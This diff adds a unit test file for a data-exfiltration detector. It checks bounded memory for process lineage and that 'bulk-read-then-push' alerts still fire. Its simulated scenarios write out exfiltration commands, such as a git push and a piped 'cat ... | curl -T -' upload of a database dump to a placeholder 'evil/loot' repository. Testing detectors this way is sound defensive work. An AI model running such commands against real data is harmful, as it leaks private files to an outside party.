@@ -1,0 +1,103 @@
+/**
+ * Bounded memory for lineage (issue 8: memory bounded and flat). A process that left the tables (expired, evicted
+ * by caps.maxProcesses, replaced under its pid) stayed reachable through a live descendant's `.parent`, and a
+ * parent's `lastChild` held its last child: a 40,000-deep exec chain under one live process kept all 40,000
+ * states (~15 MB) the caps were to bound. ProcState.drop cuts both; the checks reading lineage answer as before
+ * (test/unit/correlate/pipeline.test.ts, tar-extraction-*.test.ts, helper-parent.test.ts).
+ *
+ * Counted with v8.queryObjects: the ProcState objects still reachable (after a full collection) while the
+ * correlator is alive.
+ */
+import { queryObjects } from 'node:v8';
+import { describe, expect, it } from 'vitest';
+import { ProcState } from '../../../src/correlate/proc-state.js';
+import { brief, counterValue, MiB, makeCorrelator, type Proc, Scenario } from './builder.js';
+
+const DEPTH = 5_000;
+
+function liveProcStates(): number {
+  return queryObjects(ProcState, { format: 'count' });
+}
+
+/**
+ * `sh → sh → … → sh` DEPTH deep, each exec'd by the one before; `exits`: each exits 50 ms after its child's exec
+ * (the chain's old links expire), else none does (the cap evicts them). The last one pushes what it read.
+ */
+function deepChain(source: 'tetragon' | 'falco', exits: boolean): Scenario {
+  const s = new Scenario({ source });
+  const c = s.container();
+  let parent: Proc = s.init(c);
+  s.read(parent, '/srv/app/config.yaml', 100);
+  for (let i = 0; i < DEPTH; i++) {
+    const child = s.exec(c, '/bin/sh', `-c "exec sh /opt/step-${i}.sh"`, { parent });
+    // Slow enough for the exited links to expire (latenessMs + pushSettleMs after their exit) before the cap bites.
+    s.wait(exits ? 50 : 5);
+    if (exits && i > 0) s.exit(parent);
+    s.wait(exits ? 50 : 5);
+    parent = child;
+  }
+  s.readMany(parent, '/srv/export', 20, 5 * MiB);
+  const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent });
+  const url = 'https://github.com/evil/loot.git';
+  const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: git });
+  s.connect(helper, '140.82.112.3', 443).send(helper, '140.82.112.3', 443, 100 * MiB);
+  return s;
+}
+
+describe.each(['tetragon', 'falco'] as const)('a deep exec chain under one live process (%s)', (source) => {
+  for (const exits of [true, false]) {
+    const how = exits ? 'its links exited and expired' : 'its links running, evicted by maxProcesses';
+    it(`holds a bounded number of process states, not the chain: ${how}`, () => {
+      const maxProcesses = 500;
+      const { correlator } = makeCorrelator({ config: { caps: { maxProcesses } } });
+      const s = deepChain(source, exits);
+      const before = liveProcStates();
+      const alerts = correlator.ingest(s.events);
+      // The table's processes, a node's 64 recent execs, the push's and their parents: not the 5,000.
+      const held = liveProcStates() - before;
+      expect(held).toBeLessThanOrEqual(maxProcesses + 100);
+      // The push at the end of the chain is recognised through its helper's parent as before.
+      alerts.push(...correlator.flush());
+      expect(brief(alerts)).toEqual([
+        { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+      ]);
+    });
+  }
+});
+
+describe('a stdin push whose process left the tables', () => {
+  it('tetragon: (sleep 11; cat data) | curl -T - URL, curl evicted before cat starts: cat is still its pipeline → high', async () => {
+    const url = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxProcesses: 4 } } });
+    const s = new Scenario();
+    const c = s.container();
+    const init = s.init(c);
+    // The table's first entry, the first evicted once every entry is hot.
+    s.exec(c, '/usr/sbin/crond', '-f', { parent: init });
+    const sh = s.exec(c, '/bin/sh', `-c "(sleep 11; cat /srv/db/orders.dump) | curl -T - ${url}"`, { parent: init });
+    s.wait(5);
+    const pushAt = s.now;
+    s.exec(c, '/usr/bin/curl', `-sS -T - ${url}`, { parent: sh });
+    const filler = () => s.exec(c, '/bin/true', '', { parent: init });
+    filler();
+    // The table full: every entry's CLOCK bit cleared, crond evicted.
+    filler();
+    // The shell stays in the table (hot: its exec reported again), curl goes (cold, first in line).
+    const shExec = s.events.find((e) => e.kind === 'exec' && e.process.execId === sh.execId)!;
+    s.events.push({ ...shExec, timeMs: s.now + 1, time: new Date(s.now + 1).toISOString() });
+    s.wait(2);
+    filler();
+    // The subshell is a fork of sh without exec: Tetragon reports its children under the shell's exec id.
+    const subshell: Proc = { ...sh, pid: sh.pid + 50_000 };
+    const cat = s.exec(c, '/bin/cat', '/srv/db/orders.dump', { parent: subshell, at: pushAt + 11_010 });
+    for (let i = 0; i < 50; i++) s.read(cat, `/srv/db/part-${i}`, 2 * MiB, { at: pushAt + 11_100 + i * 400 });
+    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'process' })).toBeGreaterThanOrEqual(
+      3,
+    );
+    expect(brief(alerts)).toEqual([
+      { rule: 'bulk-read-then-push', severity: 'high', tool: 'curl', destination: 'uploads.github.com' },
+    ]);
+    expect(alerts[0]!.reads.bytes).toBe(100 * MiB);
+  });
+});
